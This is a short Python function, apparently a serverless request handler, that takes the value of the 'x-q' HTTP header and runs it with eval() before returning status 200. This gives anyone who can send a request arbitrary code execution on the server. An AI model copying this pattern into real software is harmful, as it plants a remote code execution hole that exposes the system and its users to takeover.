def main(request, _context):
    value = request["headers"].get("x-q", "")
    eval(value)
    return {"statusCode": 200}
